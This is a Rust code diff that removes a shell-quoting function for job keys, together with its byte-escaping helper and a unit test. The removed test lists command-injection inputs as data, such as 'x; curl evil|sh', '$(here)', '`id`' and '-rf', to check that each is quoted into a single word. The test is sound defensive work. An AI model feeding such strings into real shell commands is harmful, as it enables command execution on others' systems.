@@ -32,26 +32,6 @@ pub(crate) fn key(key: &JobKey) -> String {
     key.as_str().map_or_else(|| key.to_string(), plain)
 }
 
-/// A key as a word of a shell's command: whoever pastes the command means this key, and runs nothing else.
-pub(crate) fn argument(key: &JobKey) -> String {
-    let is_harmless = |byte: u8| byte.is_ascii_alphanumeric() || b"._/:@+=,-".contains(&byte);
-    let word = match key.as_str().filter(|text| plain(text) == *text) {
-        Some(text) if text.bytes().all(is_harmless) => text.to_owned(),
-        Some(text) => format!("'{}'", text.replace('\'', r"'\''")),
-        None => format!("$'{}'", key.as_bytes().iter().copied().map(quoted).collect::<String>()),
-    };
-    if key.as_bytes().starts_with(b"-") { format!("-- {word}") } else { word }
-}
-
-/// A byte between `$'` and `'`.
-fn quoted(byte: u8) -> String {
-    match byte {
-        b'\\' | b'\'' => format!("\\{}", char::from(byte)),
-        b' '..=b'~' => char::from(byte).to_string(),
-        _ => format!("\\x{byte:02x}"),
-    }
-}
-
 /// A key for programs: as text if it is, and else in base 64.
 pub(crate) fn key_fields(key: &JobKey) -> (Option<String>, Option<String>) {
     match key.as_str() {
@@ -67,22 +47,6 @@ mod tests {
     #[test]
     fn a_shown_text_cannot_move_the_terminal() {
         assert_eq!(plain("a\x1b[2Jb\nc\u{202e}d é"), "a\\u{1b}[2Jb\\nc\\u{202e}d é");
-    }
-
-    #[test]
-    fn a_key_in_a_command_is_one_word() {
-        let word = |key: &[u8]| JobKey::new(key.to_vec()).map(|key| argument(&key));
-        let words: [(&[u8], &str); 6] = [
-            (b"eu/acme-1", "eu/acme-1"),
-            (b"x; curl evil|sh", "'x; curl evil|sh'"),
-            (b"it's $(here)", r"'it'\''s $(here)'"),
-            (b"-rf", "-- -rf"),
-            (b"a\xff'\n", r"$'a\xff\'\x0a'"),
-            (b"`id`", "'`id`'"),
-        ];
-        for (key, expected) in words {
-            assert_eq!(word(key).as_deref(), Ok(expected));
-        }
     }
 
     #[test]
